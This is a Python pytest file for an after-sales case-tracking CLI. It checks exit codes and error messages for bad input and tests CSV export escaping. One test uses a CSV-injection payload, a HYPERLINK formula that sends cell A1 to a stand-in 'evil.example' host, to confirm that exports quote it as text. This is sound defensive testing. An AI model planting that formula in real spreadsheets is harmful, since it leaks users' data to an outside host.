"""Every `aftersales` command answers bad input with exit 2 and one sentence naming the input.

The commands are enumerated from the typer app, so a command added later is covered without
editing this file: each gets an unknown option, and each of its shared options (--workbook,
--now, --sheet, integer arguments) gets a bad value. Command-specific inputs are listed below.
Real processes, as a person or cron runs them (see tests/test_cli.py).
"""

from __future__ import annotations

import csv
import io
import os
import socket
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import typer
from typer.testing import CliRunner

from app.analytics.csv_export import write_csv
from app.cli import cli as typer_app
from app.settings import get_settings
from tests.test_cli import Cli, one_line
from tests.test_cli import cli as cli
from tests.workbooks import case, write_workbook

# A value that must come back in the message exactly as typed: brackets are Rich markup.
BRACKETED = "cases[old].xlsx"


def _commands() -> Iterator[tuple[tuple[str, ...], Any]]:
    """(path, click command) for every leaf command; typer vendors click, so duck-typed."""

    def walk(group: Any, path: tuple[str, ...]) -> Iterator[tuple[tuple[str, ...], Any]]:
        for name, command in sorted(group.commands.items()):
            if hasattr(command, "commands"):
                yield from walk(command, (*path, name))
            else:
                yield (*path, name), command

    yield from walk(typer.main.get_command(typer_app), ())


COMMANDS = dict(_commands())


def _takes_a_number(param: Any) -> bool:
    """An argument that is a number (a run id; typer 0.29 keeps the annotation, not a type)."""
    descriptor = getattr(param, "type_descriptor", None)
    annotation = descriptor.annotation if descriptor is not None else None
    return annotation is int or str(param.name).startswith("run")


def _required_fillers(command: Any, skip: str) -> list[str]:
    """Plausible values for a command's required parameters other than the one under test."""
    args: list[str] = []
    for param in command.params:
        if not param.required or param.name == skip:
            continue
        if param.param_type_name == "argument":
            args.append("1")
        else:
            args += [param.opts[0], "https://desk.example.com" if "url" in param.opts[0] else "1"]
    return args


def _generated_cases() -> list[tuple[tuple[str, ...], list[str], str]]:
    """(command, argv, text the message must contain) for every shared option of every command."""
    cases: list[tuple[tuple[str, ...], list[str], str]] = []
    for path, command in COMMANDS.items():
        cases.append((path, [*path, "--no-such-option"], "--no-such-option"))
        options = {opt for p in command.params for opt in p.opts}
        if "--workbook" in options:
            fill = _required_fillers(command, "workbook")
            cases.append((path, [*path, *fill, "--workbook", "a folder"], "a folder"))
        if "--now" in options:
            fill = _required_fillers(command, "now")
            argv = [*path, *fill, "--workbook", "cases.xlsx", "--now", "tomorrow morning"]
            cases.append((path, argv, "tomorrow morning"))
        for param in command.params:
            if param.param_type_name == "argument" and _takes_a_number(param):
                fill = _required_fillers(command, str(param.name))
                cases.append((path, [*path, "run-7", *fill], "run-7"))
    return cases


# Inputs only one command takes; each was a traceback, a wrong name or a wrong hint on main.
SPECIFIC: list[tuple[list[str], str]] = [
    (["sync", "--workbook", BRACKETED], BRACKETED),
    (["check", "--workbook", BRACKETED], BRACKETED),
    (["undo", "3", "--workbook", BRACKETED], BRACKETED),
    (
        ["kpis", "--workbook", "cases.xlsx", "--from", "2025-10-03", "--to", "2025-09-01"],
        "2025-09-01",
    ),
    (["kpis", "--workbook", "cases.xlsx", "--from", "3 Oct"], "3 Oct"),
    (["kpis", "--workbook", "cases.xlsx", "--by", "platfrom"], "platfrom"),
    (["addon", "--url", "desk.example.com", "--out", "addon"], "desk.example.com"),
    (["addon", "--url", "desk[/path].example.com", "--out", "addon"], "desk[/path].example.com"),
    (["addon", "--url", "https://desk.example.com", "--out", "a file"], "a file"),
    (["sheets", "add", "team-a", "--workbook", "a folder"], "a folder"),
    (["sheets", "add", "team-a", "--timezone", "Mars/Olympus"], "Mars/Olympus"),
    (["sheets", "secret", "team[b]"], "team[b]"),
    (["sheets", "remove", "team[b]"], "team[b]"),
    (["init", "--workbook", "cases.xlsx"], "cases.xlsx"),
]


def _setup(cwd: Path) -> None:
    """The working directory every bad input is tried in: a workbook, a folder, a plain file."""
    write_workbook(cwd / "cases.xlsx", [case()])
    (cwd / "a folder").mkdir()
    (cwd / "a file").write_text("not a folder\n", encoding="utf-8")


@pytest.fixture
def in_process(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The typer app run in this process (hundreds of cases; a process each would take minutes).

    An exception escaping a command shows up as `result.exception`, so this is stricter than the
    console script, whose `main` turns a last-resort exception into exit 2."""
    for name in [k for k in os.environ if k.startswith("AFTERSALES_")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("AFTERSALES_DATABASE_URL", f"sqlite:///{tmp_path}/s.db")
    monkeypatch.chdir(tmp_path)
    get_settings.cache_clear()
    _setup(tmp_path)
    yield tmp_path
    get_settings.cache_clear()


def _assert_refused(argv: list[str], named: str) -> None:
    result = CliRunner().invoke(typer_app, argv)
    said = one_line(result.stderr)
    assert isinstance(result.exception, SystemExit | None), result.exception
    assert "Traceback" not in result.stderr + result.stdout, result.stderr
    assert result.exit_code == 2, (argv, result.stdout, result.stderr)
    assert named in said, (argv, said)


@pytest.mark.parametrize(
    ("argv", "named"),
    [pytest.param(argv, named, id=" ".join(argv)) for _, argv, named in _generated_cases()],
)
def test_every_command_refuses_bad_shared_input_with_exit_2(
    in_process: Path, argv: list[str], named: str
) -> None:
    """Each registered command answers an unknown option or a bad shared value with exit 2."""
    _assert_refused(argv, named)


@pytest.mark.parametrize(
    ("argv", "named"), [pytest.param(argv, named, id=" ".join(argv)) for argv, named in SPECIFIC]
)
def test_command_specific_bad_input_exits_2_naming_it(
    in_process: Path, argv: list[str], named: str
) -> None:
    """A command's own bad input is refused with exit 2, named as typed, without a traceback."""
    _assert_refused(argv, named)


def test_the_enumeration_finds_the_commands_people_use() -> None:
    """The command walk reaches nested commands, so the generated cases are not vacuous."""
    assert {("sync",), ("kpis",), ("serve",), ("sheets", "add")} <= set(COMMANDS)


def test_kpis_by_typo_lists_each_real_grouping_once(in_process: Path) -> None:
    """`kpis --by platfrom` offers the real groupings, each once, and the likely one first."""
    result = CliRunner().invoke(typer_app, ["kpis", "--workbook", "cases.xlsx", "--by", "platfrom"])
    said = one_line(result.stderr)
    for kind in ("all", "platform", "assignee", "platform_assignee", "week"):
        assert f" {kind}" in said, said
    assert said.count(" all") == 1, said
    assert "did you mean platform" in said


def test_serve_on_a_taken_port_exits_2_before_the_banner(cli: Cli) -> None:
    """A port another process listens on is named with exit 2, and no 'running on' banner."""
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = str(taken.getsockname()[1])
        result = cli("serve", "--host", "127.0.0.1", "--port", port)
    assert result.returncode == 2, result.stderr
    assert "After-sales Desk on" not in result.stdout
    assert port in one_line(result.stderr)
    assert "Traceback" not in result.stderr


def test_missing_bracketed_workbook_is_named_as_typed_by_the_console_script(cli: Cli) -> None:
    """A workbook called cases[old].xlsx is named as such, with the init command that fixes it."""
    result = cli("sync", "--workbook", BRACKETED)
    said = one_line(result.stderr)
    assert f"Workbook {BRACKETED} does not exist" in said
    assert f"aftersales init --workbook {BRACKETED}" in said


# -- --now ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "local"),
    [
        ("2025-10-10", datetime(2025, 10, 10, 0, 0)),
        ("2025-10-10T10:00", datetime(2025, 10, 10, 10, 0)),
        ("2025-10-10 18:30:00", datetime(2025, 10, 10, 18, 30)),
    ],
)
def test_now_without_an_offset_is_the_sheets_time_zone(
    cli: Cli, typed: str, local: datetime
) -> None:
    """`--now` without an offset (or a date alone, as midnight) is read in the team's zone."""
    workbook = write_workbook(cli.cwd / "cases.xlsx", [case(**{"Case ID": "AS-1"})])
    result = cli("sync", "--workbook", "cases.xlsx", "--now", typed, "--json")
    assert result.returncode == 0, result.stderr
    # The shipped team zone is Asia/Shanghai; the service writes its change time in it.
    book = openpyxl.load_workbook(workbook)
    sheet = book["Cases"]
    headers = [c.value for c in sheet[1]]
    synced = sheet.cell(2, headers.index("Last Changed By Service") + 1).value
    assert synced is not None
    if isinstance(synced, datetime):
        assert synced.replace(tzinfo=None) == local
    else:
        assert str(synced).startswith(local.strftime("%Y-%m-%d %H:%M")), synced


def test_unparsable_now_suggests_only_accepted_forms(cli: Cli) -> None:
    """Each form the --now message suggests is itself accepted by --now."""
    write_workbook(cli.cwd / "cases.xlsx", [case()])
    said = one_line(cli("sync", "--workbook", "cases.xlsx", "--now", "10/03").stderr)
    suggested = [w.strip(".,;:()") for w in said.split() if w[:4] == "2025"]
    assert suggested, said
    for form in suggested:
        result = cli("check", "--workbook", "cases.xlsx", "--now", form, "--json")
        assert result.returncode in (0, 1), (form, result.stderr)


# -- CSV --------------------------------------------------------------------------------------


def test_kpis_csv_keeps_formula_like_text_as_text(cli: Cli) -> None:
    """An Assignee of =HYPERLINK(…) (and +, -, @, tab, CR) comes out quoted as text in --csv."""
    hostile = {
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")': "AS-1",
        "+86 138 0000": "AS-2",
        "-李雷": "AS-3",
        "@Lily": "AS-4",
        "\tTab Wang": "AS-5",
        "\rCR Chen": "AS-6",
        "Lily": "AS-7",
    }
    rows = [case(**{"Case ID": cid, "Assignee": who}) for who, cid in hostile.items()]
    write_workbook(cli.cwd / "cases.xlsx", rows)
    result = cli(
        "kpis", "--workbook", "cases.xlsx", "--by", "assignee", "--csv", "--now", "2025-10-10"
    )
    assert result.returncode == 0, result.stderr
    table = list(csv.DictReader(io.StringIO(result.stdout)))
    assignees = {r["assignee"] for r in table}
    # OWASP: a cell starting with = + - @ TAB CR gets a leading single quote; others unchanged.
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' in assignees
    assert "'+86 138 0000" in assignees
    assert "'-李雷" in assignees
    assert "'@Lily" in assignees
    assert "Lily" in assignees
    # Leading tab/CR may be stripped by the sheet reader; whatever remains must not be raw.
    for value in assignees:
        assert not value or value[0] not in "=+-@\t\r", value
    # Real numbers stay numbers: the case counts are plain digits.
    assert all(r["cases"].isdigit() for r in table)


def test_csv_cells_that_could_start_a_formula_read_back_as_quoted_text() -> None:
    """write_csv quotes text starting with = + - @ TAB CR and leaves real numbers alone."""
    buffer = io.StringIO()
    rows = [
        {"assignee": "=1+1", "cases": -3, "rate": -0.5, "reasons": [["-折扣", 2]]},
        {"assignee": "王芳", "cases": 4, "rate": None, "reasons": []},
    ]
    write_csv(buffer, rows)
    back = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert back[0] == ["assignee", "cases", "rate", "reasons"]
    assert back[1] == ["'=1+1", "-3", "-0.5", '[["-折扣", 2]]']
    assert back[2] == ["王芳", "4", "", "[]"]
